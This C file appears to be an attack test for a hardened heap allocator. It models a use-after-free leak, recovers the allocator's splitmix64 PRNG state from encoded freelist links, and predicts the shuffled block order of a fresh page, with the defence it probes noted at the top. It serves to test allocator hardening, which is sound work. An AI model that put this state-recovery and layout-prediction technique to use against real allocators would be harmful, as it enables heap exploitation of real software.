/* keyrec_predict_order: predict the allocation order of a fresh page from
 * another page's key, before the blocks are handed out.
 *
 * Bug modelled: use-after-free reads of two freed blocks in page P1 (as in
 * keyrec_forge); nothing at all touches page P2.
 *
 * Steps:
 *  1. Solve P1's key0 from two links; unmix it to the heap PRNG state.
 *  2. Allocate the first 4 blocks of a fresh 176-byte page P2; the position
 *     t in the PRNG stream is the one whose Fisher-Yates shuffle of the
 *     23-block batch (draws t+2 on; t, t+1 are P2's keys) places these 4 at
 *     consistent offsets from one page start.
 *  3. Predict the remaining 19 addresses, then allocate them.
 * WIN: all 19 predicted addresses come out in the predicted order (an
 * attacker can then place a victim right after the buffer it overflows).
 * Defence that should stop it: a PRNG whose state does not follow from its
 * outputs (or keys derived by a keyed hash), and per-page secret shuffling. */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */

#define SIZE1 96
#define SIZE2 176
#define BATCH2 (4096 / SIZE2)

static const uint64_t GAMMA = 0x9e3779b97f4a7c15ull, C1 = 0xbf58476d1ce4e5b9ull, C2 = 0x94d049bb133111ebull;
static uint64_t mix(uint64_t z) {
  z = (z ^ (z >> 30)) * C1;
  z = (z ^ (z >> 27)) * C2;
  return z ^ (z >> 31);
}
static uint64_t unxorshift(uint64_t y, int s) {
  uint64_t x = y;
  for (int i = 0; i < 64 / s + 1; i++) x = y ^ (x >> s);
  return x;
}
static uint64_t inverse(uint64_t c) { /* odd c: inverse mod 2^64 by Newton */
  uint64_t x = c;
  for (int i = 0; i < 6; i++) x *= 2 - c * x;
  return x;
}
static uint64_t unmix(uint64_t z) {
  z = unxorshift(z, 31) * inverse(C2);
  z = unxorshift(z, 27) * inverse(C1);
  return unxorshift(z, 30);
}
static uintptr_t rotr(uintptr_t x, unsigned r) { r &= 63; return r == 0 ? x : (x >> r) | (x << (64 - r)); }

int main(void) {
  start(10);
  static uintptr_t blk[256];
  for (int i = 0; i < 256; i++) blk[i] = (uintptr_t)hide(malloc(SIZE1));
  int pick[3], np = 0;
  for (int i = 128; i < 256 && np < 3; i++)
    if ((blk[i] >> 16) == (blk[128] >> 16)) pick[np++] = i;
  if (np < 3) lost("not three blocks in one page");
  uintptr_t X = blk[pick[0]], A = blk[pick[1]], B = blk[pick[2]];
  free(hide((void*)X));
  free(hide((void*)A));
  free(hide((void*)B));
  uintptr_t ea = peek((void*)A), eb = peek((void*)B);
  int plain = (ea == X && eb == A);
  uint64_t state = 0;
  unsigned r = 0;
  int solutions = 0;
  if (!plain) {
    for (unsigned rr = 1; rr < 64; rr += 2) {
      uintptr_t c = rotr(eb, rr) ^ A ^ B;
      if ((rotr(ea, rr) ^ X ^ A) != c) continue;
      uint64_t s = unmix(c);
      if (((mix(s + GAMMA) | 1) & 63) != rr) continue; /* key1 is the next output */
      if (solutions++ == 0) { r = rr; state = s; }
    }
    if (solutions == 0) lost("no key of P1 is consistent with splitmix64");
    note("P1: rotation=%u, PRNG state %#llx", r, (unsigned long long)state);
  }

  if (plain) {
    /* default build: no shuffling; blocks come out in address order */
    uintptr_t first = (uintptr_t)hide(malloc(SIZE2));
    for (int i = 1; i < BATCH2; i++) {
      uintptr_t q = (uintptr_t)hide(malloc(SIZE2));
      if (q != first + (uintptr_t)i * SIZE2) lost("block %d of P2 is %p, not the next in address order", i, (void*)q);
    }
    win("default build: all %d blocks of P2 came out in address order, as predicted", BATCH2);
  }
  /* P2: a fresh page; the first 4 blocks fix the stream position */
  uintptr_t p2[BATCH2];
  for (int i = 0; i < 4; i++) p2[i] = (uintptr_t)hide(malloc(SIZE2));
  for (long t = 1; t < 400000; t++) {
    int sim[BATCH2];
    for (int i = 0; i < BATCH2; i++) sim[i] = i;
    uint64_t u = state + (uint64_t)(t + 2) * GAMMA;
    for (int i = BATCH2 - 1; i > 0; i--, u += GAMMA) {
      int j = (int)(mix(u) % (uint64_t)(i + 1));
      int tmp = sim[i]; sim[i] = sim[j]; sim[j] = tmp;
    }
    /* block addresses are start + sim[i] * SIZE2: the differences must agree */
    int ok = 1;
    uintptr_t start2 = p2[0] - (uintptr_t)sim[0] * SIZE2;
    for (int i = 1; i < 4 && ok; i++) ok = p2[i] == start2 + (uintptr_t)sim[i] * SIZE2;
    if (!ok) continue;
    note("stream position %ld fits the first 4 blocks; predicting the other %d", t, BATCH2 - 4);
    for (int i = 4; i < BATCH2; i++) {
      uintptr_t want = start2 + (uintptr_t)sim[i] * SIZE2;
      uintptr_t q = (uintptr_t)hide(malloc(SIZE2));
      if (q != want) lost("block %d of P2 is %p, predicted %p", i, (void*)q, (void*)want);
    }
    win("all %d remaining blocks of the fresh page came out at the predicted addresses", BATCH2 - 4);
  }
  lost("the first blocks of P2 match no position of the predicted PRNG stream");
}
